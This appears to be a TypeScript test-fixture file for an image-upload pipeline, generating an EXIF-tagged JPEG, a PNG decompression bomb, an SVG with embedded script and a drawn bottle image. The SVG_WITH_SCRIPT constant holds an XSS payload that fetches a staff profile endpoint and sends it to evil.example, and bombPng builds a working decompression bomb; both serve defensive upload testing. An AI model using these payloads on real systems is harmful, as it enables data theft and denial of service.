import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

/** A photo-like picture (a gradient with some texture) of the given size, as JPEG with EXIF that must not survive. */
export async function photoJpeg(width: number, height: number): Promise<Buffer> {
  const noise = await sharp({
    create: { width, height, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 120, sigma: 30 } },
  })
    .blur(3)
    .png()
    .toBuffer();
  return sharp(noise)
    .jpeg({ quality: 85 })
    .withExif({ IFD0: { Copyright: 'Secret Studio', ImageDescription: 'taken at home' } })
    .toBuffer();
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A decompression bomb: a PNG whose header says `side` × `side` pixels, with only the first rows' data (a few KB).
 * Decoded whole it would take `side`² × 3 bytes: 1.2 GB for 20,000.
 */
export function bombPng(side: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc((side * 3 + 1) * 4);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("/api/v1/staff/me").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script>' +
    '<rect width="10" height="10"/></svg>',
);

/** A drawn bottle on a soft background (gradients, flat areas, a label): a picture AVIF keeps much smaller. */
export function drawnBottlePng(side = 1600): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}" viewBox="0 0 400 400">
    <defs>
      <linearGradient id="glass" x1="0" x2="1">
        <stop offset="0" stop-color="#4a0d1c"/><stop offset="0.5" stop-color="#a8324f"/>
        <stop offset="1" stop-color="#2b0710"/>
      </linearGradient>
      <radialGradient id="back"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#e9dcc9"/></radialGradient>
    </defs>
    <rect width="400" height="400" fill="url(#back)"/>
    <path d="M180 40h40v80c0 20 40 30 40 80v180h-120V200c0-50 40-60 40-80z" fill="url(#glass)"/>
    <rect x="150" y="230" width="100" height="80" fill="#f3e9d2"/>
  </svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}
